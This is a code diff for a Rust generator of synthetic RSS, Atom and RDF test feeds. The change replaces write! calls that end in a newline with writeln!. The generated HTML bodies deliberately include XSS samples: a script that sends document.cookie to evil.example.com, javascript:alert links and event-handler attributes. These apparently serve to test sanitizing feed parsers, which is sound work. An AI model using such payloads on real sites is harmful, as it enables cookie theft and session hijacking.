@@ -226,57 +226,57 @@ fn body(r: &mut Rng, cs: Charset, src: u64, item: u64) -> String {
         k += 1;
         match r.below(12) {
             0 => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<p>See <a href=\"../posts/{src}-{item}-{k}.html\">our earlier post</a> &amp; the <a href=\"/reports/{k}.pdf\">report</a>.</p>\n"
+                    "<p>See <a href=\"../posts/{src}-{item}-{k}.html\">our earlier post</a> &amp; the <a href=\"/reports/{k}.pdf\">report</a>.</p>"
                 );
             }
             1 => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<p><img src=\"images/photo-{item}-{k}.jpg\" alt=\"{}\" width=\"640\" height=\"480\"></p>\n",
+                    "<p><img src=\"images/photo-{item}-{k}.jpg\" alt=\"{}\" width=\"640\" height=\"480\"></p>",
                     sentence(r, 3)
                 );
             }
             2 => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<img src=\"http://track.example.com/pixel.gif?s={src}&amp;i={item}\" width=\"1\" height=\"1\" alt=\"\">\n"
+                    "<img src=\"http://track.example.com/pixel.gif?s={src}&amp;i={item}\" width=\"1\" height=\"1\" alt=\"\">"
                 );
             }
             3 => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<p>It&#8217;s time:&nbsp;{}&nbsp;&mdash; &quot;{}&quot; &lt;3</p>\n",
+                    "<p>It&#8217;s time:&nbsp;{}&nbsp;&mdash; &quot;{}&quot; &lt;3</p>",
                     sentence(r, 6),
                     sentence(r, 4)
                 );
             }
             4 if r.pct(30) => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<script>document.write('x'+{k});fetch('http://evil.example.com/?c='+document.cookie)</script>\n"
+                    "<script>document.write('x'+{k});fetch('http://evil.example.com/?c='+document.cookie)</script>"
                 );
             }
             5 if r.pct(30) => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<p onclick=\"alert({k})\"><a href=\"javascript:alert(document.domain)\">click here</a></p>\n"
+                    "<p onclick=\"alert({k})\"><a href=\"javascript:alert(document.domain)\">click here</a></p>"
                 );
             }
             6 if r.pct(30) => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<iframe src=\"http://www.youtube.com/embed/v{k}\" width=\"560\" height=\"315\" onload=\"x()\"></iframe>\n"
+                    "<iframe src=\"http://www.youtube.com/embed/v{k}\" width=\"560\" height=\"315\" onload=\"x()\"></iframe>"
                 );
             }
             7 => {
-                let _ = write!(h, "<blockquote><p>{}</p></blockquote>\n", local_text(r, cs));
+                let _ = writeln!(h, "<blockquote><p>{}</p></blockquote>", local_text(r, cs));
             }
             8 => {
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<ul><li>{}</li><li>{}</li><li><a href=\"#note-{k}\">{}</a></li></ul>\n",
+                    "<ul><li>{}</li><li>{}</li><li><a href=\"#note-{k}\">{}</a></li></ul>",
                     sentence(r, 4),
                     local_text(r, cs),
                     sentence(r, 2)
@@ -293,9 +293,9 @@ fn body(r: &mut Rng, cs: Charset, src: u64, item: u64) -> String {
             }
             _ => {
                 let n = 20 + r.below(40) as usize;
-                let _ = write!(
+                let _ = writeln!(
                     h,
-                    "<p class=\"x\">{}. <b>{}</b> <em>{}</em></p>\n",
+                    "<p class=\"x\">{}. <b>{}</b> <em>{}</em></p>",
                     sentence(r, n),
                     sentence(r, 2),
                     local_text(r, cs)
@@ -392,9 +392,9 @@ fn rss2_item(it: &Item, cdata: bool) -> String {
         it.guid
     );
     if let Some(d) = it.date {
-        let _ = write!(
+        let _ = writeln!(
             s,
-            "  <pubDate>{}</pubDate>\n",
+            "  <pubDate>{}</pubDate>",
             d.format("%a, %d %b %Y %H:%M:%S +0000")
         );
     }
@@ -403,21 +403,21 @@ fn rss2_item(it: &Item, cdata: bool) -> String {
         "  <dc:creator>{}</dc:creator>\n  <category>news</category>\n",
         it.author
     );
-    let _ = write!(
+    let _ = writeln!(
         s,
-        "  <description>{}</description>\n",
+        "  <description>{}</description>",
         xml_escape(&it.summary)
     );
     if cdata {
-        let _ = write!(
+        let _ = writeln!(
             s,
-            "  <content:encoded><![CDATA[{}]]></content:encoded>\n",
+            "  <content:encoded><![CDATA[{}]]></content:encoded>",
             it.body
         );
     } else {
-        let _ = write!(
+        let _ = writeln!(
             s,
-            "  <content:encoded>{}</content:encoded>\n",
+            "  <content:encoded>{}</content:encoded>",
             xml_escape(&it.body)
         );
     }
@@ -453,14 +453,14 @@ fn atom_entry(it: &Item, i: u64) -> String {
         "  <author><name>{}</name></author>\n  <category term=\"news\"/>\n",
         it.author
     );
-    let _ = write!(
+    let _ = writeln!(
         s,
-        "  <summary type=\"html\">{}</summary>\n",
+        "  <summary type=\"html\">{}</summary>",
         xml_escape(&it.summary)
     );
-    let _ = write!(
+    let _ = writeln!(
         s,
-        "  <content type=\"html\">{}</content>\n",
+        "  <content type=\"html\">{}</content>",
         xml_escape(&it.body)
     );
     s.push_str("</entry>\n");
@@ -469,7 +469,7 @@ fn atom_entry(it: &Item, i: u64) -> String {
 
 fn rdf_item(it: &Item) -> String {
     let mut s = String::with_capacity(it.body.len() + 1024);
-    let _ = write!(s, "<item rdf:about=\"{}\">\n", it.link);
+    let _ = writeln!(s, "<item rdf:about=\"{}\">", it.link);
     let _ = write!(
         s,
         "  <title>{}</title>\n  <link>{}</link>\n",
@@ -477,17 +477,17 @@ fn rdf_item(it: &Item) -> String {
         it.link
     );
     if let Some(d) = it.date {
-        let _ = write!(s, "  <dc:date>{}</dc:date>\n", d.to_rfc3339());
+        let _ = writeln!(s, "  <dc:date>{}</dc:date>", d.to_rfc3339());
     }
-    let _ = write!(s, "  <dc:creator>{}</dc:creator>\n", it.author);
-    let _ = write!(
+    let _ = writeln!(s, "  <dc:creator>{}</dc:creator>", it.author);
+    let _ = writeln!(
         s,
-        "  <description>{}</description>\n",
+        "  <description>{}</description>",
         xml_escape(&it.summary)
     );
-    let _ = write!(
+    let _ = writeln!(
         s,
-        "  <content:encoded>{}</content:encoded>\n",
+        "  <content:encoded>{}</content:encoded>",
         xml_escape(&it.body)
     );
     s.push_str("</item>\n");
@@ -501,9 +501,9 @@ fn feed_xml(seed: u64, n: u64, i: u64, m: u64) -> Vec<u8> {
     let title = format!("Partner {i:04}: {}", local_text(&mut r, sh.charset));
     let home = format!("http://src{i:04}.example.org/");
     let mut s = String::with_capacity(m as usize * 6000);
-    let _ = write!(
+    let _ = writeln!(
         s,
-        "<?xml version=\"1.0\" encoding=\"{}\"?>\n",
+        "<?xml version=\"1.0\" encoding=\"{}\"?>",
         sh.charset.label()
     );
     match sh.format {
@@ -521,9 +521,9 @@ fn feed_xml(seed: u64, n: u64, i: u64, m: u64) -> Vec<u8> {
             s.push_str("</channel>\n</rss>\n");
         }
         Format::Atom => {
-            let _ = write!(
+            let _ = writeln!(
                 s,
-                "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"{home}blog/\" xml:lang=\"en\">\n"
+                "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"{home}blog/\" xml:lang=\"en\">"
             );
             let _ = write!(
                 s,
@@ -553,7 +553,7 @@ fn feed_xml(seed: u64, n: u64, i: u64, m: u64) -> Vec<u8> {
                 xml_escape(&title)
             );
             for it in &its {
-                let _ = write!(s, "<rdf:li rdf:resource=\"{}\"/>\n", it.link);
+                let _ = writeln!(s, "<rdf:li rdf:resource=\"{}\"/>", it.link);
             }
             s.push_str("</rdf:Seq></items>\n</channel>\n");
             for it in &its {
